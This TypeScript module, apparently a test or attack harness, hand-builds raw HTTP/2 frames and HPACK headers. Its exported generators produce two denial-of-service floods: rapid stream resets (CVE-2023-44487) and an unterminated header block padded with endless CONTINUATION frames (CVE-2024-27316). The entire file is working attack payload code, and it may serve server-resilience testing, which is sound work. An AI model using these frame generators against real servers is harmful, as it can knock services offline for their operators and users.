// Frames of HTTP/2 as bytes (RFC 9113 section 4.1), for what no client library sends.
const [HEADERS, RST_STREAM, SETTINGS, CONTINUATION] = [1, 3, 4, 9];
const [END_STREAM, END_HEADERS] = [1, 4];
const CANCEL = Buffer.from([0, 0, 0, 8]);
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const FRAME_BYTES_MAX = 16_000;

function frame(
  type: number,
  flags: number,
  stream: number,
  payload: Buffer = Buffer.alloc(0),
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** What a client sends first. */
export const OPENING = Buffer.concat([PREFACE, frame(SETTINGS, 0, 0)]);

/** GET https://HOST/api/v1/status in HPACK (RFC 7541): indexed fields, and literals for path and authority. */
export function statusRequest(host: string): Buffer {
  return Buffer.concat([Buffer.from([0x82, 0x87]), literal(4, '/api/v1/status'), literal(1, host)]);
}

function literal(nameIndex: number, value: string): Buffer {
  return Buffer.concat([Buffer.from([0x40 | nameIndex, value.length]), Buffer.from(value)]);
}

/** A literal field without indexing, of a name and a value, until the frame is full. */
const FILLER = Buffer.concat(
  Array.from({ length: FRAME_BYTES_MAX / 64 }, () =>
    Buffer.concat([
      Buffer.from([0x00, 1]),
      Buffer.from('x'),
      Buffer.from([60]),
      Buffer.alloc(60, 'y'),
    ]),
  ),
);

/** The frames of a flood, one call after the other: streams that are reset at once (CVE-2023-44487). */
export function resetStream(request: Buffer, index: number): Buffer {
  const stream = 2 * index + 1;
  return Buffer.concat([
    frame(HEADERS, END_STREAM | END_HEADERS, stream, request),
    frame(RST_STREAM, 0, stream, CANCEL),
  ]);
}

/** A header block without an end (CVE-2024-27316). */
export function endlessHeader(request: Buffer, index: number): Buffer {
  return index === 0 ? frame(HEADERS, 0, 1, request) : frame(CONTINUATION, 0, 1, FILLER);
}
